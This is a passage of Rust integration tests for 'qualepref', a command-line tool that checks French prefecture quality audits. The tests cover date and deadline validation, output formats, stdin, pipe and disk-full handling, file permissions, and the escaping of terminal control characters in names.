    // The same site written in another case is the same site.
    let mut same = toulon();
    same.site.city = "Toulon".to_owned();
    let same = write(&dir, "same.json", &ok(same.to_json_string()));
    let output = run_en(&["diff", TOULON, &same], "");
    assert_eq!((code(&output), stderr(&output)), (Some(0), String::new()));
}

#[test]
fn diff_warns_when_after_is_dated_before_before() {
    let dir = temp_dir("diff-dates");
    let mut later = toulon();
    let day = ok(qualepref::NaiveDate::from_ymd_opt(2020, 11, 16).ok_or("date"));
    later.dates = qualepref::AuditDates::day(day);
    for a in &mut later.auditors {
        a.signed_on = Some(day);
    }
    let later = write(&dir, "later.json", &ok(later.to_json_string()));
    let output = run_en(&["diff", &later, TOULON], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(
        stderr(&output),
        format!(
            "qualepref: {TOULON} (AFTER, from 2019-11-18) is dated before {later} (BEFORE, from \
             2020-11-16): are they in the wrong order?\n"
        )
    );
    let output = run_en(&["diff", TOULON, &later], "");
    assert_eq!(stderr(&output), "");
}

#[test]
fn a_minor_threshold_of_0_is_refused() {
    for command in ["synthesize", "render"] {
        let output = run(&[command, TOULON, "--minor-threshold", "0"], "");
        assert_eq!(code(&output), Some(2));
        assert!(
            stderr(&output).starts_with(
                "error: invalid value '0' for '--minor-threshold <N>': 0 is not in 1..=4294967295"
            ),
            "{}",
            stderr(&output)
        );
    }
    let output = run(&["synthesize", TOULON, "--minor-threshold", "1"], "");
    assert_eq!(code(&output), Some(0));
}

#[test]
fn control_characters_never_reach_the_terminal() {
    let dir = temp_dir("controls");
    let mut audit = toulon();
    audit.assessments[3].comment = Some("\u{1b}]0;titre\u{7}\u{1b}[2J".to_owned());
    audit.auditors[0].name.push('\u{1b}');
    audit.auditors.push(audit.auditors[0].clone());
    let file = write(&dir, "esc.json", &ok(audit.to_json_string()));
    for command in ["validate", "synthesize", "render"] {
        let output = run(&[command, &file], "");
        assert_eq!(code(&output), Some(1), "{command}");
        assert!(
            !output.stdout.contains(&0x1b) && !output.stderr.contains(&0x1b),
            "{command}: {}{}",
            stdout(&output),
            stderr(&output)
        );
        assert!(
            (stdout(&output) + &stderr(&output)).contains("[control-character] erreur"),
            "{command}"
        );
    }
}

#[test]
fn text_that_is_not_utf_8_is_named_with_its_offset() {
    let mut child = ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
        .args(["--lang", "en"])
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .args(["validate", "-"])
        .stdin(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn());
    if let Some(mut input) = child.stdin.take() {
        ok(input.write_all(b"{\"a\": \"\xe9\"}"));
    }
    let output = ok(child.wait_with_output());
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output)
            .starts_with("qualepref: <stdin>: not UTF-8 text (invalid byte at offset 7)\n"),
        "{}",
        stderr(&output)
    );
}

/// `synthesize` on the Toulon audit (internal) says its outcome is indicative, in text and JSON;
/// the same audit run by the external audit body gives a proposed avis under the tool's rule.
#[test]
fn synthesize_says_an_internal_audit_decides_nothing() {
    let output = run(&["synthesize", TOULON, "--format", "json"], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let value: serde_json::Value = match serde_json::from_str(&stdout(&output)) {
        Ok(v) => v,
        Err(e) => panic!("{e}"),
    };
    assert_eq!(value["indicative"], serde_json::json!(true));

    let dir = temp_dir("external");
    let mut audit = toulon();
    audit.kind.internal = false;
    let external = write(&dir, "external.json", &ok(audit.to_json_string()));
    let output = run(&["synthesize", &external], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(
        text.starts_with(
            "AVIS PROPOSÉ\u{a0}: avis favorable\nAvis établi selon la règle de décision par défaut de l'outil"
        ),
        "{text}"
    );
    assert!(!text.contains("DÉCISION"), "{text}");
    assert!(!text.contains("INDICATIF"), "{text}");
    let output = run(&["synthesize", &external, "--format", "json"], "");
    let value: serde_json::Value = match serde_json::from_str(&stdout(&output)) {
        Ok(v) => v,
        Err(e) => panic!("{e}"),
    };
    assert_eq!(value["indicative"], serde_json::json!(false));
    let output = run(&["diff", TOULON, &external], "");
    assert!(
        stdout(&output).contains("- Avis\u{a0}: avis favorable (indicatif) → avis favorable\n"),
        "{}",
        stdout(&output)
    );
}

/// Toulon with an NC min on engagement 17 and its fiche (synthetic data): due 28/02/2020.
fn plan_audit(dir: &Path) -> String {
    let mut audit = toulon();
    if let Some(a) = audit
        .assessments
        .iter_mut()
        .find(|a| a.engagement.get() == 17)
    {
        a.verdict = Some(qualepref::Verdict::MinorNonconformity);
    }
    audit.ecarts.push(
        qualepref::FicheEcart::new(
            qualepref::EcartTarget::Engagement(ok(qualepref::EngagementNumber::try_from(17))),
            qualepref::NcGrade::Minor,
            "Délai de réponse non tenu (constat synthétique)",
        )
        .with_corrective_action("Tableau de suivi des courriers")
        .with_leader("Chef du bureau du courrier")
        .with_due(ok(qualepref::NaiveDate::parse_from_str(
            "2020-02-28",
            "%Y-%m-%d",
        ))),
    );
    write(dir, "plan.json", &ok(audit.to_json_string()))
}

#[test]
fn plan_lists_the_open_and_overdue_actions_at_a_date() {
    let dir = temp_dir("plan");
    let file = plan_audit(&dir);
    let output = run(&["plan", &file, "--at", "2020-03-01"], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let text = stdout(&output);
    assert!(
        text.starts_with("PLAN D'ACTIONS QUALITÉ AU 01/03/2020\n"),
        "{text}"
    );
    assert!(
        text.contains("\nEN RETARD\n- N°\u{a0}1 — NC min — Engagement 17 "),
        "{text}"
    );
    assert!(text.contains("  Pilote\u{a0}: Chef du bureau du courrier\n"));
    assert!(text.contains("en retard de 2\u{a0}jours"));
    let output = run(&["plan", &file, "--at", "15/01/2020"], "");
    let text = stdout(&output);
    assert!(
        text.contains("\nOUVERTES\n- N°\u{a0}1 — NC min — Engagement 17 "),
        "{text}"
    );
    assert!(!text.contains("EN RETARD"));
    let output = run(&["plan", &file, "--at", "2020-03-01", "--lang", "en"], "");
    assert!(stdout(&output).contains("\nOVERDUE\n- No.\u{a0}1 — NC min — Engagement 17 "));
    // Toulon alone: its four pistes de progrès.
    let output = run(&["plan", TOULON, "--at", "2020-03-01"], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert!(stdout(&output).contains("4 actions, dont 0 non-conformité\u{a0}: "));
    // Without --at: today, a date of the form 01/03/2020.
    let output = run(&["plan", TOULON], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
}

#[test]
fn plan_writes_each_format() {
    let dir = temp_dir("plan-formats");
    let file = plan_audit(&dir);
    let at = ["--at", "2020-03-01"];
    let format = |name: &str| {
        let mut args = vec!["plan", file.as_str(), "--format", name];
        args.extend(at);
        let output = run(&args, "");
        assert_eq!(code(&output), Some(0), "{name}: {}", stderr(&output));
        stdout(&output)
    };
    let value: Value = ok(serde_json::from_str(&format("json")));
    assert_eq!(value["totals"]["overdue"], 1);
    assert_eq!(value["actions"][0]["leader"], "Chef du bureau du courrier");
    let csv = format("csv");
    assert!(
        csv.starts_with("\u{feff}N°;Origine;Date de l'origine;"),
        "{csv}"
    );
    assert!(
        csv.contains(
            "\r\n1;Audit interne réalisé en amont d'un audit initial;18/11/2019;Engagement 17 "
        ),
        "{csv}"
    );
    assert!(format("markdown").starts_with("# Plan d'actions qualité au 01/03/2020\n"));
    assert!(format("html").starts_with("<!DOCTYPE html>\n<html lang=\"fr\">"));
    let out = dir.join("plan.html");
    let output = run(
        &[
            "plan",
            &file,
            "--at",
            "2020-03-01",
            "--format",
            "html",
            "-o",
            &out.display().to_string(),
        ],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), "");
    assert_eq!(ok(std::fs::read_to_string(&out)), format("html"));
}

#[test]
fn plan_fails_on_a_bad_date_or_file_and_refuses_an_invalid_audit() {
    let output = run_en(&["plan", TOULON, "--at", "2020-02-30"], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).contains(
            "\"2020-02-30\" is not a date: write it YYYY-MM-DD or DD/MM/YYYY with a four-digit \
             year between 2000 and 2100"
        ),
        "{}",
        stderr(&output)
    );
    let output = run_en(&["plan", "no-such-audit.json"], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).contains("no-such-audit.json"),
        "{}",
        stderr(&output)
    );
    assert_eq!(stdout(&output), "");
    let output = run_en(&["plan", "-", "-"], "{}");
    assert_eq!(code(&output), Some(2));
    // An invalid audit: no plan at all, its file named.
    let dir = temp_dir("plan-invalid");
    let mut audit = toulon();
    audit.modules.retain(|m| m.get() == 1);
    let invalid = write(&dir, "invalid.json", &ok(audit.to_json_string()));
    let output = run_en(&["plan", TOULON, &invalid], "");
    assert_eq!(code(&output), Some(1), "{}", stderr(&output));
    assert_eq!(stdout(&output), "");
    assert!(
        stderr(&output).contains(&format!(
            "qualepref: {invalid}: the audit is invalid (3 error(s)): no plan"
        )),
        "{}",
        stderr(&output)
    );
}

const HISTORY: &str = "examples/data/history";

#[test]
fn history_of_the_bundled_directory() {
    let output = run(&["history", HISTORY, "--at", "2022-01-01"], "");
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stderr(&output), "");
    let text = stdout(&output);
    assert!(
        text.contains("\nCHRONOLOGIE\n- 18/11/2019 — Audit interne"),
        "{text}"
    );
    assert!(text.contains(
        "- n°\u{a0}5 — Engagement 17 (NC min), audit du 18/02/2020\u{a0}: levée à l'audit du 14/09/2021 (C)"
    ));
    assert!(text.contains("- Module 1\u{a0}: depuis le 19/02/2020 jusqu'au 19/02/2023\n"));
    assert!(
        text.contains("- Prochain audit dû\u{a0}: audit de renouvellement, avant le 19/02/2023\n")
    );
    // Files in any order give the same output (labels aside: they are the same files).
    let files = [
        "examples/data/history/2021-09-14-toulon-suivi-synthetique.json",
        "examples/data/history/2019-11-18-toulon-interne.json",
        "examples/data/history/2020-02-18-toulon-initial-synthetique.json",
    ];
    let mut args = vec!["history", "--at", "2022-01-01"];
    args.extend(files);
    assert_eq!(stdout(&run(&args, "")), text);
}

#[test]
fn history_formats_and_output_file() {
    let output = run(
        &["history", HISTORY, "--at", "2021-09-01", "--format", "json"],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let value: serde_json::Value = ok(serde_json::from_str(&stdout(&output)));
    // Due on 2021-08-19, to be held by 2021-09-19: not late on 2021-09-01; the suivi of
    // 2021-09-14 is after the date, so the écart it lifts is still pending.
    assert_eq!(value["status"]["next"]["type"], "suivi");
    assert_eq!(value["status"]["next"]["overdue"], false);
    assert_eq!(value["status"]["next"]["window_end"], "2021-09-19");
    assert_eq!(value["ecarts"][0]["status"], "pending");

    let dir = temp_dir("history-out");
    let out = dir.join("history.html");
    let out_arg = out.display().to_string();
    let output = run(
        &["history", HISTORY, "--format", "html", "-o", &out_arg],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert_eq!(stdout(&output), "");
    let html = ok(std::fs::read_to_string(&out));
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert!(html.contains("<td class=\"v-nc-min\" title=\"PS\u{a0}: Synthétique"));

    let output = run(
        &["history", HISTORY, "--format", "markdown", "--lang", "en"],
        "",
    );
    assert!(
        stdout(&output).starts_with("# Audit history — PREFECTURE du Var, TOULON (83)\n"),
        "{}",
        stdout(&output)
    );
}

#[test]
fn history_exit_codes() {
    let dir = temp_dir("history-codes");
    let mut nice = toulon();
    nice.site.city = "NICE".into();
    nice.site.departement = ok("06".parse());
    let later = ok("2020-03-02".parse());
    nice.dates = qualepref::AuditDates::day(later);
    for auditor in &mut nice.auditors {
        auditor.signed_on = Some(later);
    }
    let nice = write(&dir, "nice.json", &ok(nice.to_json_string()));
    let first = "examples/data/history/2019-11-18-toulon-interne.json";
    let output = run_en(&["history", first, &nice, "--at", "2020-01-01"], "");
    assert_eq!(code(&output), Some(1));
    assert!(
        stderr(&output).contains("nice.json: audits[1]: [history-other-site] error:"),
        "{}",
        stderr(&output)
    );
    // A warning only: 0.
    let suivi = "examples/data/history/2021-09-14-toulon-suivi-synthetique.json";
    let output = run_en(&["history", first, suivi], "");
    assert_eq!(code(&output), Some(0));
    assert!(stderr(&output).contains("[history-no-labelling-audit] warning"));
    // Nothing to read: 2.
    let empty = temp_dir("history-empty");
    let output = run_en(&["history", &empty.display().to_string()], "");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).contains("no audit file"),
        "{}",
        stderr(&output)
    );
    let output = run_en(&["history", "no-such-file.json"], "");
    assert_eq!(code(&output), Some(2));
    let output = run_en(&["history", "--at", "2022-13-01", first], "");
    assert_eq!(code(&output), Some(2));
}

#[test]
fn the_summary_counts_files_and_diagnostics_by_severity() {
    let dir = temp_dir("summary");
    let mut audit = toulon();
    audit.assessments[0].verdict = None; // missing-verdict, an error
    audit.unread = vec![
        qualepref::Unread::new("kind.type", "trimestriel"),
        qualepref::Unread::new("dates", "18/11/19"),
    ]; // unread-value, two warnings
    let invalid = write(&dir, "invalid.json", &ok(audit.to_json_string()));
    let output = run_en(&["validate", &invalid, TOULON], "");
    assert_eq!(code(&output), Some(1), "{}", stderr(&output));
    assert!(
        stderr(&output)
            .ends_with("qualepref: 2 files: 1 valid, 1 invalid; 1 error, 2 warnings, 0 infos\n"),
        "{}",
        stderr(&output)
    );
}

#[test]
fn every_command_reads_standard_input_once() {
    const ONCE: &str = "qualepref: standard input (-) can be read only once\n";
    let json = samples::TOULON_2019_JSON;
    let report = samples::TOULON_2019_REPORT;
    let commands: [(&[&str], &str); 7] = [
        (&["validate", "-"], json),
        (&["synthesize", "-"], json),
        (&["render", "-"], json),
        (&["import", "-"], report),
        (&["diff", "-", TOULON], json),
        (&["history", "-"], json),
        (&["plan", "--at", "2020-01-01", "-"], json),
    ];
    for (args, input) in commands {
        // One `-`: read.
        let output = run_en(args, input);
        assert_eq!(code(&output), Some(0), "{args:?}: {}", stderr(&output));
        // With `--referentiel -` as well: refused before anything is read.
        let twice: Vec<&str> = ["--referentiel", "-"].iter().chain(args).copied().collect();
        let output = run_en(&twice, input);
        assert_eq!(code(&output), Some(2), "{twice:?}");
        assert_eq!(stderr(&output), ONCE, "{twice:?}");
    }
    for args in [
        &["diff", "-", "-"][..],
        &["history", "-", "-"][..],
        &["plan", "-", "-"][..],
    ] {
        let output = run_en(args, json);
        assert_eq!(code(&output), Some(2), "{args:?}");
        assert_eq!(stderr(&output), ONCE, "{args:?}");
    }
}

#[test]
fn the_plan_is_at_today_unless_told() {
    let day = || {
        let seconds = ok(std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH));
        chrono::DateTime::from_timestamp(i64::try_from(seconds.as_secs()).unwrap_or(0), 0)
            .map(|t| t.date_naive().format("%d/%m/%Y").to_string())
            .unwrap_or_default()
    };
    let before = day();
    let output = run(&["plan", TOULON], "");
    let after = day();
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let first = stdout(&output)
        .lines()
        .next()
        .unwrap_or_default()
        .to_owned();
    assert!(
        [before, after]
            .iter()
            .any(|d| first == format!("PLAN D'ACTIONS QUALITÉ AU {d}")),
        "{first}"
    );
}

#[test]
fn an_input_of_exactly_the_limit_is_read() {
    // 64 MiB of spaces: read (and then refused as JSON without a value), not refused as too
    // large; one byte more is refused for its size.
    let limit = usize::try_from(qualepref::MAX_INPUT_BYTES).unwrap_or(usize::MAX);
    let spaces = " ".repeat(limit);
    let output = run_en(&["validate", "-"], &spaces);
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with("qualepref: <stdin>: malformed audit JSON"),
        "{}",
        stderr(&output)
    );
    let output = run_en(&["validate", "-"], &format!("{spaces} "));
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with(&format!(
            "qualepref: <stdin>: input is larger than the limit of {limit} bytes\n"
        )),
        "{}",
        stderr(&output)
    );
}

#[cfg(target_os = "linux")]
#[test]
fn a_full_standard_output_exits_2_naming_the_cause() {
    let output = Command::new(env!("CARGO_BIN_EXE_qualepref"))
        .args(["--lang", "en"])
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .args(["render", TOULON])
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdout(ok(std::fs::OpenOptions::new()
            .write(true)
            .open("/dev/full")))
        .stderr(Stdio::piped())
        .output();
    let output = ok(output);
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with("qualepref: cannot write to standard output: No space left"),
        "{}",
        stderr(&output)
    );
}

/// Every date option of every command refuses two-digit and implausible years.
#[test]
fn every_date_option_refuses_two_digit_and_implausible_years() {
    for command in [&["plan", TOULON][..], &["history", HISTORY][..]] {
        for date in [
            "30/04/20",
            "01/01/22",
            "0000-01-01",
            "9999-12-31",
            "+12019-01-01",
            "31/12/1",
            "1999-12-31",
            "2101-01-01",
            "2020-02-30",
        ] {
            let mut args = command.to_vec();
            args.extend(["--at", date]);
            let output = run(&args, "");
            assert_eq!(code(&output), Some(2), "{args:?}: {}", stderr(&output));
            assert_eq!(stdout(&output), "", "{args:?}");
            assert!(
                stderr(&output).starts_with(&format!(
                    "error: invalid value '{date}' for '--at <DATE>': \"{date}\" is not a date: \
                     write it YYYY-MM-DD or DD/MM/YYYY with a four-digit year between 2000 and \
                     2100\n"
                )),
                "{args:?}: {}",
                stderr(&output)
            );
        }
        for date in [
            "2020-04-30",
            "30/04/2020",
            "1/3/2020",
            "2000-01-01",
            "31/12/2100",
        ] {
            let mut args = command.to_vec();
            args.extend(["--at", date]);
            let output = run(&args, "");
            assert_eq!(code(&output), Some(0), "{args:?}: {}", stderr(&output));
        }
    }
}

/// Deadlines are 1 to 120 months, on every command that takes them.
#[test]
fn deadlines_are_1_to_120_months() {
    let dir = temp_dir("deadline-bounds");
    let mut audit = toulon_with_nc_min_on_17();
    audit.ecarts[0].grade = qualepref::NcGrade::Major;
    audit.assessments[16].verdict = Some(qualepref::Verdict::MajorNonconformity);
    let file = write(&dir, "nc.json", &ok(audit.to_json_string()));
    for command in [
        &["synthesize", &file][..],
        &["render", &file][..],
        &["plan", &file, "--at", "2020-03-01"][..],
    ] {
        for option in [
            "--deadline-months",
            "--minor-deadline-months",
            "--major-deadline-months",
        ] {
            for months in ["0", "121", "100000", "4294967295", "+3", "3.5"] {
                let mut args = command.to_vec();
                args.extend([option, months]);
                let output = run(&args, "");
                assert_eq!(code(&output), Some(2), "{args:?}: {}", stderr(&output));
                assert!(
                    stderr(&output).starts_with(&format!(
                        "error: invalid value '{months}' for '{option} <MONTHS>': \"{months}\" \
                         is not a deadline: write a number of months from 1 to 120\n"
                    )),
                    "{args:?}: {}",
                    stderr(&output)
                );
            }
        }
    }
    let output = run(
        &[
            "synthesize",
            &file,
            "--format",
            "json",
            "--major-deadline-months",
            "120",
        ],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let value: Value = ok(serde_json::from_str(&stdout(&output)));
    assert_eq!(value["ecarts"][0]["due"], "2029-11-18");
    let _ = std::fs::remove_dir_all(&dir);
}

/// Runs the binary with `args`, its standard output `out`, and returns its standard error.
#[track_caller]
fn run_to(args: &[&str], out: impl Into<Stdio>) -> Output {
    ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdin(Stdio::null())
        .stdout(out)
        .stderr(Stdio::piped())
        .output())
}

/// Runs the binary with `args`, its standard output a pipe whose reader goes away before
/// reading anything, as `| head -c 0` would.
#[track_caller]
fn run_into_a_closed_pipe(args: &[&str]) -> Output {
    let mut child = ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
        .env_remove("LC_ALL")
        .env_remove("LC_MESSAGES")
        .env_remove("LANG")
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn());
    drop(child.stdout.take());
    ok(child.wait_with_output())
}

#[cfg(target_os = "linux")]
#[track_caller]
fn dev_full() -> std::fs::File {
    ok(std::fs::OpenOptions::new().write(true).open("/dev/full"))
}

/// `-o /dev/stdout` (or `/dev/stderr`) is standard output under another name: a reader that
/// stops early ends quietly with 0, a full disk is 2 naming standard output, and a file it is
/// appended to is appended to, not replaced.
#[cfg(target_os = "linux")]
#[test]
fn an_output_to_dev_stdout_follows_the_contract_of_standard_output() {
    for args in [
        &["render", TOULON, "--format", "html", "-o", "/dev/stdout"][..],
        &["grid", "export", TOULON, "-o", "/dev/stdout"][..],
        &["plan", TOULON, "--at", "2020-03-01", "-o", "/dev/stdout"][..],
    ] {
        let output = run_into_a_closed_pipe(args);
        assert_eq!(stderr(&output), "", "{args:?}");
        assert_eq!(code(&output), Some(0), "{args:?}");
        let output = run_to(args, dev_full());
        assert_eq!(code(&output), Some(2), "{args:?}");
        assert_eq!(
            stderr(&output),
            "qualepref: impossible d'écrire sur la sortie standard\u{a0}: No space left on device\n",
            "{args:?}"
        );
    }
    let dir = temp_dir("dev-stdout");
    let log = dir.join("log.txt");
    ok(std::fs::write(&log, "previous line\n"));
    let append = ok(std::fs::OpenOptions::new().append(true).open(&log));
    let output = run_to(
        &["render", TOULON, "--format", "text", "-o", "/dev/stdout"],
        append,
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let text = ok(std::fs::read_to_string(&log));
    assert!(text.starts_with("previous line\n"), "{text}");
    assert!(text.len() > 1000, "{text}");
    // Standard error under another name is written through it.
    let output = run_to(
        &["render", TOULON, "--format", "text", "-o", "/dev/stderr"],
        Stdio::null(),
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    assert!(
        stderr(&output).contains("Avis favorable"),
        "{}",
        stderr(&output)
    );
    let _ = std::fs::remove_dir_all(&dir);
}

/// `--help` and `--version` are outputs like any other.
#[cfg(target_os = "linux")]
#[test]
fn help_and_version_follow_the_contract_of_standard_output() {
    for args in [&["--help"][..], &["--version"][..], &["plan", "--help"][..]] {
        let output = run_into_a_closed_pipe(args);
        assert_eq!((code(&output), stderr(&output)), (Some(0), String::new()));
        let output = run_to(args, dev_full());
        assert_eq!(code(&output), Some(2), "{args:?}");
        assert_eq!(
            stderr(&output),
            "qualepref: impossible d'écrire sur la sortie standard\u{a0}: No space left on device\n",
            "{args:?}"
        );
    }
}

#[cfg(unix)]
#[track_caller]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt as _;
    ok(std::fs::metadata(path)).permissions().mode() & 0o7777
}

/// `-o FILE` replaces the file whole and keeps what it is: its permissions, a symbolic link
/// (written through to its target), and no temporary file left. A hard link is broken: the
/// other name keeps the previous content.
#[cfg(unix)]
#[test]
fn an_output_file_keeps_its_permissions_and_symbolic_links() {
    use std::os::unix::fs::{PermissionsExt as _, symlink};
    let dir = temp_dir("keeps");
    let report = || {
        let output = run(&["render", TOULON], "");
        assert_eq!(code(&output), Some(0), "{}", stderr(&output));
        stdout(&output)
    };
    let expected = report();
    let render = |out: &Path| {
        let output = run(&["render", TOULON, "-o", &out.display().to_string()], "");
        assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    };
    // A private report stays private; other modes are kept too.
    for wanted in [0o600, 0o640, 0o604, 0o664] {
        let path = dir.join(format!("report-{wanted:o}.md"));
        ok(std::fs::write(&path, "previous\n"));
        ok(std::fs::set_permissions(
            &path,
            std::fs::Permissions::from_mode(wanted),
        ));
        render(&path);
        assert_eq!(mode(&path), wanted, "{wanted:o}");
        assert_eq!(ok(std::fs::read_to_string(&path)), expected);
    }
    // A new file gets the permissions any new file gets here (0666 less the umask).
    let usual = dir.join("usual.txt");
    ok(std::fs::write(&usual, ""));
    let new = dir.join("new.md");
    render(&new);
    assert_eq!(mode(&new), mode(&usual));

    // A symbolic link stays one; its target gets the report and keeps its mode.
    let sub = dir.join("sub");
    ok(std::fs::create_dir_all(&sub));
    let target = sub.join("target.md");
    ok(std::fs::write(&target, "previous\n"));
    ok(std::fs::set_permissions(
        &target,
        std::fs::Permissions::from_mode(0o600),
    ));
    let link = dir.join("latest.md");
    ok(symlink("sub/target.md", &link));
    let chain = dir.join("chain.md");
    ok(symlink("latest.md", &chain));
    render(&chain);
    assert!(
        ok(std::fs::symlink_metadata(&link))
            .file_type()
            .is_symlink()
    );
    assert!(
        ok(std::fs::symlink_metadata(&chain))
            .file_type()
            .is_symlink()
    );
    assert_eq!(ok(std::fs::read_link(&link)), Path::new("sub/target.md"));
    assert_eq!(ok(std::fs::read_to_string(&target)), expected);
    assert_eq!(mode(&target), 0o600);
    // A link to a name not yet taken: the file is created where it points.
    let dangling = dir.join("dangling.md");
    ok(symlink("sub/created.md", &dangling));
    render(&dangling);
    assert!(
        ok(std::fs::symlink_metadata(&dangling))
            .file_type()
            .is_symlink()
    );
    assert_eq!(
        ok(std::fs::read_to_string(sub.join("created.md"))),
        expected
    );

    // A hard link: the name given gets the report, the other keeps the previous content.
    let first = dir.join("first.md");
    let second = dir.join("second.md");
    ok(std::fs::write(&first, "previous\n"));
    ok(std::fs::hard_link(&first, &second));
    render(&first);
    assert_eq!(ok(std::fs::read_to_string(&first)), expected);
    assert_eq!(ok(std::fs::read_to_string(&second)), "previous\n");

    // No temporary file is left behind.
    for d in [&dir, &sub] {
        for entry in ok(std::fs::read_dir(d)) {
            let entry = ok(entry);
            let file = entry.file_name().to_string_lossy().into_owned();
            assert!(
                !file.starts_with(".qualepref"),
                "{file} left in {}",
                d.display()
            );
        }
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn an_output_that_cannot_be_a_file_is_refused_with_a_reason() {
    let dir = temp_dir("not-a-file");
    let sub = dir.join("reports");
    ok(std::fs::create_dir_all(&sub));
    let output = run_en(&["render", TOULON, "-o", &sub.display().to_string()], "");
    assert_eq!(code(&output), Some(2));
    assert_eq!(
        stderr(&output),
        format!(
            "qualepref: {}: cannot write: it is a directory; give a file name\n",
            sub.display()
        )
    );
    let missing = dir.join("no-such-dir").join("report.md");
    let output = run_en(
        &["render", TOULON, "-o", &missing.display().to_string()],
        "",
    );
    assert_eq!(code(&output), Some(2));
    assert_eq!(
        stderr(&output),
        format!(
            "qualepref: {}: cannot write: the directory {} does not exist\n",
            missing.display(),
            dir.join("no-such-dir").display()
        )
    );
    let _ = std::fs::remove_dir_all(&dir);
}

const TITLE: &str = "\u{1b}]0;TITLE\u{7}";

/// File names, labels, sheet names and refused values are printed with their control
/// characters escaped, wherever they appear.
#[cfg(unix)]
#[test]
fn names_never_drive_the_terminal() {
    let dir = temp_dir("names");
    let clean = |output: &Output, what: &str| {
        for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
            assert!(
                !bytes.iter().any(|&b| b == 0x1b || b == 0x07),
                "{what}: {stream}: {}",
                String::from_utf8_lossy(bytes)
            );
        }
    };
    // A file that does not exist.
    let missing = format!("{TITLE}.json");
    let output = run_en(&["validate", &missing], "");
    clean(&output, "missing");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).starts_with(&format!(
            "qualepref: cannot read \"{}.json\": No such file or directory\n",
            TITLE.escape_default()
        )),
        "{}",
        stderr(&output)
    );
    // A file with diagnostics, named on standard output.
    let mut audit = toulon();
    audit.modules.retain(|m| m.get() == 1);
    let invalid = write(&dir, &format!("{TITLE}.json"), &ok(audit.to_json_string()));
    let output = run_en(&["validate", &invalid], "");
    clean(&output, "validate");
    assert_eq!(code(&output), Some(1));
    assert!(
        stdout(&output).contains(&format!("{}.json\": ", TITLE.escape_default())),
        "{}",
        stdout(&output)
    );
    for command in ["synthesize", "render", "plan"] {
        let output = run_en(&[command, &invalid], "");
        clean(&output, command);
        assert_eq!(code(&output), Some(1), "{command}");
    }
    // The JSON output keeps the name itself, escaped as JSON escapes it.
    let output = run_en(&["validate", "--format", "json", &invalid], "");
    let value: Value = ok(serde_json::from_str(&stdout(&output)));
    assert_eq!(value[0]["file"], invalid.as_str());
    // A history labels its audits by file name.
    let history = dir.join("history");
    ok(std::fs::create_dir_all(&history));
    ok(std::fs::copy(TOULON, history.join(format!("{TITLE}.json"))));
    for format in ["text", "markdown", "html"] {
        let output = run_en(
            &[
                "history",
                &history.display().to_string(),
                "--format",
                format,
            ],
            "",
        );
        clean(&output, format);
        assert_eq!(code(&output), Some(0), "{format}: {}", stderr(&output));
    }
    // A name given to -o, in a directory that does not exist.
    let out = dir.join(TITLE).join("report.md");
    let output = run_en(&["render", TOULON, "-o", &out.display().to_string()], "");
    clean(&output, "-o");
    assert_eq!(code(&output), Some(2));
    assert!(
        stderr(&output).contains(&format!(
            "{}/report.md\": cannot write: ",
            TITLE.escape_default()
        )),
        "{}",
        stderr(&output)
    );
    // Values clap refuses.
    for args in [
        &["render", TOULON, "--format", TITLE][..],
        &["plan", TOULON, "--at", TITLE][..],
        &["synthesize", TOULON, "--deadline-months", TITLE][..],
        &[TITLE][..],
    ] {
        let output = run_en(args, "");
        clean(&output, "clap");
        assert_eq!(code(&output), Some(2), "{args:?}");
        assert!(
            stderr(&output).contains(&TITLE.escape_default().to_string()),
            "{args:?}: {}",
            stderr(&output)
        );
    }
    // A sheet of a grid, named in the reader's diagnostics.
    let grid = dir.join("grid.xlsx");
    let output = run_en(
        &["grid", "export", TOULON, "-o", &grid.display().to_string()],
        "",
    );
    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
    let renamed = dir.join("renamed.xlsx");
    ok(std::fs::write(
        &renamed,
        rename_sheet(&ok(std::fs::read(&grid)), "Conclusion"),
    ));
